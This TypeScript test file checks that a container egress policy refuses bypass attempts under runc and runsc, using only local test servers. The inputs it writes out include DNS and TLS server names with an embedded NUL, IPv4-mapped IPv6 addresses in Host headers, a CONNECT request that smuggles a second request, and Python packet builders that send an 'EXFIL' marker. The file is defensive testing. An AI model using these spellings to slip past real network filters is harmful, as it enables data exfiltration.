// Names and addresses spelled to slip past the egress policy (AH-CONT-4), under runc and
// runsc: a server name or DNS question with a NUL inside (a resolver library reads
// `evil.test\0.ok.test` as `evil.test`), an IPv4-mapped IPv6 address in a Host header
// (`[::ffff:c633:6432]` is 198.51.100.50 to a socket), and a CONNECT on a transparent
// connection to an upstream that answers 200 to anything (it would take the next requests
// unframed). Each is refused with its reason in the evidence, and no local listener gets a
// byte of what was refused.
//
// Local servers only: the far namespace this file creates (198.51.100.0/24 TEST-NET-2 on a
// veth; its host side is a host address), a DNS server and a raw upstream on this machine.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  dockerBridgeAddress,
  startDnsServer,
  startFarNamespace,
  startHttpTarget,
  startRawHttpTarget,
  type DnsServer,
  type FarNamespace,
  type HttpTarget,
  type RawHttpTarget,
} from './local-servers.js';
import {
  engineRuntimes,
  failed,
  marker,
  farRunSkip,
  useNetHarness,
  type NetRun,
} from './network-harness.js';

let far: FarNamespace | undefined;
let farSkip = '';
let dns: DnsServer;
let veth: HttpTarget | undefined;
let raw: RawHttpTarget;
let runtimes: string[] = [];
let hostSide = '';
const net = useNetHarness('net-spell', () => ({
  CFH_EGRESS_RESOLVER: `${dns.address}:${dns.port}`,
}));

/** `::ffff:hhhh:hhhh`: the hex spelling of an IPv4-mapped address. */
function mapped(v4: string): string {
  const [a = 0, b = 0, c = 0, d = 0] = v4.split('.').map(Number);
  return `::ffff:${((a << 8) | b).toString(16)}:${((c << 8) | d).toString(16)}`;
}

/** A TLS ClientHello with `name` (NUL spelled `NUL`) as server name, then some bytes. */
const HELLO_PY = String.raw`
import socket, struct, sys, os
def hello(name):
    sni = name.encode('latin1')
    ext = struct.pack('>HHHBH', 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    body = b'\x03\x03' + os.urandom(32) + b'\x00' + b'\x00\x02\x00\x2f' + b'\x01\x00' + struct.pack('>H', len(ext)) + ext
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(hs)) + hs
label, host, port, name = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].replace('NUL', '\x00')
try:
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(hello(name) + b'EXFIL-AFTER-HELLO\r\n')
    try:
        print('@@ %s connect=ok recv=%d' % (label, len(s.recv(100))), flush=True)
    except OSError as e:
        print('@@ %s connect=ok recv=err%s' % (label, e.errno), flush=True)
except OSError as e:
    print('@@ %s connect=err%s' % (label, e.errno), flush=True)
`;

/** One DNS A query for `name` (NUL spelled `NUL`) to the resolver at `gw`. */
const DNS_PY = String.raw`
import socket, struct, sys
label, gw, name = sys.argv[1], sys.argv[2], sys.argv[3].replace('NUL', '\x00')
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for part in name.split('.'):
    q += bytes([len(part)]) + part.encode('latin1')
q += b'\x00\x00\x01\x00\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4)
s.sendto(q, (gw, 53))
try:
    d, _ = s.recvfrom(512)
    print('@@ %s rcode=%d an=%d' % (label, d[3] & 15, struct.unpack('>H', d[6:8])[0]), flush=True)
except OSError as e:
    print('@@ %s err=%s' % (label, type(e).__name__), flush=True)
`;

beforeAll(async () => {
  const made = await startFarNamespace();
  if ('skip' in made) {
    farSkip = made.skip;
    console.log(`far namespace skipped: ${farSkip}`);
  } else {
    far = made;
    // The veth's host side: the address just below the far ones, a host address.
    hostSide = far.addresses[0].replace(/\.(\d+)$/, (_m, d: string) => `.${Number(d) - 1}`);
    veth = await startHttpTarget('host-veth', hostSide, 80);
  }
  const [near = '', other = ''] = far?.addresses ?? [];
  dns = await startDnsServer({ 'www.ok.test': near, 'evil.test': other, 'blocked.test': other });
  raw = await startRawHttpTarget('raw', { upgrade: false });
  runtimes = await engineRuntimes();
});

afterAll(async () => {
  await Promise.all([dns.close(), raw.close(), veth?.close()]);
  await far?.close();
});

describe.each(['runc', 'runsc'] as const)('spelled to slip past, under %s', (runtime) => {
  let names: NetRun;
  let addresses: NetRun;
  let tunnel: NetRun;
  let skip = '';
  let near = '';
  let other = '';
  let port = 0;
  let farBefore = 0;
  let vethBefore = 0;
  let rawBefore = '';

  beforeAll(async () => {
    skip = farRunSkip(runtime, farSkip, runtimes);
    if (far === undefined || skip !== '') return;
    [near = '', other = ''] = far.addresses;
    port = far.port;
    farBefore = far.connections.length;
    vethBefore = veth?.requests.length ?? 0;
    const hello = await net.payload('hello.py', HELLO_PY);
    const query = await net.payload('query.py', DNS_PY);
    names = await net.run({
      mode: 'allowlist',
      runtime,
      allow: ['*.ok.test'],
      script: [
        `python3 ${query} dns-nul $GW evil.testNUL.ok.test`,
        `python3 ${hello} sni-nul ${other} ${port} evil.testNUL.ok.test`,
        `python3 ${hello} sni-nul-443 $GW 443 evil.testNUL.ok.test`,
        'echo "@@ done"',
      ].join('\n'),
    });
    addresses = await net.run({
      mode: 'open',
      runtime,
      // The allow entry only makes the gateway listen on the far port by name.
      allow: [`pad.ok.test:${port}`],
      deny: [near, 'blocked.test'],
      script: [
        `probe cidr-mapped -H 'Host: [${mapped(near)}]:${port}' http://$GW:${port}/`,
        `probe name-mapped -H 'Host: [${mapped(other)}]:${port}' http://$GW:${port}/`,
        `probe host-mapped -H 'Host: [${mapped(hostSide)}]' http://$GW/`,
        'echo "@@ done"',
      ].join('\n'),
    });
    rawBefore = raw.text();
    const api = `${dockerBridgeAddress()}:${raw.port}`;
    const connect = await net.payload(
      'connect.http',
      `CONNECT ${api} HTTP/1.1\r\nHost: ${api}\r\n\r\n`,
    );
    const smuggled = await net.payload(
      'smuggled.http',
      'GET /smuggled HTTP/1.1\r\nHost: smuggled.cfh.test\r\n\r\n',
    );
    tunnel = await net.run({
      mode: 'allowlist',
      runtime,
      allow: [`api.ok.test:${raw.port}`],
      script: [`py send connect $GW ${raw.port} ${connect} ${smuggled}`, 'echo "@@ done"'].join(
        '\n',
      ),
    });
  });

  const guard = (ctx: { skip: (note?: string) => void }): void => {
    if (skip !== '') ctx.skip(skip);
  };

  it('a name with a NUL in it is refused as invalid-name, asked or sent, and reaches nobody', (ctx) => {
    guard(ctx);
    expect(names.result.exitCode, names.result.stderr).toBe(0);
    expect(marker(names, 'dns-nul')).toMatchObject({ an: '0' });
    const nul = names.egress.filter((e) => e.name === 'evil.test\u0000.ok.test');
    expect(nul.map((e) => e.protocol).sort()).toEqual(['dns', 'tls', 'tls']);
    for (const e of nul) expect(e).toMatchObject({ allowed: false, reason: 'invalid-name' });
    expect(far?.connections.slice(farBefore)).toEqual([]);
  });

  it('an IPv4-mapped address in a Host header is the IPv4 address: denied, or the host', (ctx) => {
    guard(ctx);
    expect(addresses.result.exitCode, addresses.result.stderr).toBe(0);
    for (const label of ['cidr-mapped', 'name-mapped', 'host-mapped'])
      expect(failed(marker(addresses, label)), label).toBe(true);
    const reasons = Object.fromEntries(
      addresses.egress
        .filter((e) => String(e.address).startsWith('::ffff:'))
        .map((e) => [String(e.address), e]),
    );
    expect(reasons[mapped(near)]).toMatchObject({
      allowed: false,
      reason: 'denylisted',
      rule: near,
    });
    expect(reasons[mapped(other)]).toMatchObject({
      allowed: false,
      reason: 'denylisted',
      rule: 'blocked.test',
    });
    expect(reasons[mapped(hostSide)]).toMatchObject({ allowed: false, reason: 'host-address' });
    expect(far?.connections.slice(farBefore)).toEqual([]);
    expect(veth?.requests.length).toBe(vethBefore);
  });

  it('a CONNECT on a transparent connection is refused: nothing is smuggled behind it', (ctx) => {
    guard(ctx);
    expect(tunnel.result.exitCode, tunnel.result.stderr).toBe(0);
    const seen = raw.text().slice(rawBefore.length);
    expect(seen).not.toContain('smuggled');
    expect(seen).not.toContain('CONNECT');
    expect(tunnel.egress).toContainEqual(
      expect.objectContaining({ protocol: 'http', allowed: false, reason: 'bad-request' }),
    );
  });
});
